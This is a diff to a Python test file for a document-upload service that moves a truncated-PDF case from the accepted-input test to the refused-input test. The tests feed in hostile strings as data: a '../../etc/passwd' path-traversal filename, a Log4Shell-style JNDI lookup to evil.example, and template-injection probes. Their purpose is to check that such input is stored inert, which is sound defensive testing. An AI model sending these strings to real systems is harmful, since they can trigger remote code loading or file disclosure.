@@ -215,6 +215,7 @@ async def test_bad_input_is_refused_with_its_code_and_nothing_left_behind(
             ("scan.pdf", read(Path("/usr/share/doc/python3.11-doc/html/_images/logging_flow.png"))),
             ("huge.txt", b"All work and no play makes Jack a dull boy.\n" * (21 * MiB // 44)),
             ("garbage.txt", bytes(range(128, 256)) * 4),
+            ("cut.pdf", truncated_pdf()),
         ],
         token=owner,
     )
@@ -244,6 +245,15 @@ async def test_bad_input_is_refused_with_its_code_and_nothing_left_behind(
                 "message": "The text is in no character encoding that could be recognised. "
                 "(ISO-8859-5)",
                 "field": "files.3",
+            },
+        ),
+        (
+            "cut.pdf",
+            {
+                "code": "PDF_BROKEN",
+                "message": "The PDF is damaged or incomplete. "
+                "(it ends before its end-of-file marker)",
+                "field": "files.4",
             },
         ),
     ]
@@ -310,12 +320,11 @@ async def test_hostile_but_acceptable_input_is_stored_inert_and_verbatim(
             ("../../etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n"),
             (long_name, b"# A long name\n\nIts [text](https://example.com) is short.\n"),
             ("locked.pdf", encrypted_pdf()),
-            ("cut.pdf", truncated_pdf()),
         ],
         token=owner,
     )
     files = payload["files"]
-    assert [f["error"] for f in files] == [None] * 6
+    assert [f["error"] for f in files] == [None] * 5
     names = [f["document"]["originalFilename"] for f in files]
     assert names[2] == "../../etc/passwd"  # kept for display, never a path
     assert names[3] == "a" * 252 + ".md" and len(names[3]) == 255
@@ -351,11 +360,6 @@ async def test_hostile_but_acceptable_input_is_stored_inert_and_verbatim(
         "EXTRACTING",
         "PDF_ENCRYPTED",
     )
-    assert (final[ids[5]]["status"], final[ids[5]]["stage"], final[ids[5]]["errorCode"]) == (
-        "FAILED",
-        "EXTRACTING",
-        "PDF_BROKEN",
-    )
     detail = await client.op("DocumentDetail", {"id": ids[4]}, token=owner)
     assert (detail["document"]["errorCode"], detail["document"]["stage"]) == (
         "PDF_ENCRYPTED",
@@ -369,7 +373,7 @@ async def test_hostile_but_acceptable_input_is_stored_inert_and_verbatim(
     assert "Quarterly offer" in html["text"] and "The offer ends on Friday." in html["text"]
     latin = await document_row(upload_database, uuid.UUID(relay.from_base64(ids[1])[1]))
     assert latin["text"].startswith("Olá, mundo! Você está aqui.")
-    text = await document_row(upload_database, uuid.UUID(relay.from_base64(ids[6])[1]))
+    text = await document_row(upload_database, uuid.UUID(relay.from_base64(ids[5])[1]))
     assert text["title"] == "${jndi:ldap://evil.example/a} #{7*7} {{7*7}}"
     assert text["text"].strip() == "Value: ${env:HOME} and ${sys:user.name}"
 
